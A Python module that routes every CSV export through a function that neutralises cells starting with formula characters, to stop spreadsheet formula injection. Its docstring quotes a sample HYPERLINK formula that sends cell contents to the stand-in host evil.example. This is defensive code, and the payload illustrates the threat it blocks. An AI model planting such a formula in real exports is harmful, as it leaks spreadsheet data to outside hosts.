"""Exports: the one place that writes CSV (or any file a spreadsheet opens) for people to download.

A cell that starts with = + - @ (or a tab or a carriage return, which spreadsheets skip before
reading a formula) is run as a formula by Excel, LibreOffice and Google Sheets: a customer who
writes ``=HYPERLINK("http://evil.example/?"&A1, "Cliquez")`` in a complaint would have it run
on the quality manager's computer. :func:`cell` writes such text with a leading apostrophe, which
spreadsheets show as text and do not display; numbers stay numbers. Every export goes through
:func:`write_csv` (tests/test_private_files.py fails on any other ``csv.writer`` in the code).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from typing import TextIO

#: What a spreadsheet reads as the start of a formula, full-width forms included.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def cell(value: object) -> str:
    """``value`` as a cell that a spreadsheet shows and never runs."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, int | float):
        return str(value)  # a number, negative or not, is data
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def write_csv(out: TextIO, header: Sequence[object], rows: Iterable[Sequence[object]]) -> None:
    """Write ``header`` then ``rows`` to ``out`` as CSV (UTF-8 text, comma separated), every cell neutralised."""
    writer = csv.writer(out)
    writer.writerow([cell(name) for name in header])
    for row in rows:
        writer.writerow([cell(value) for value in row])
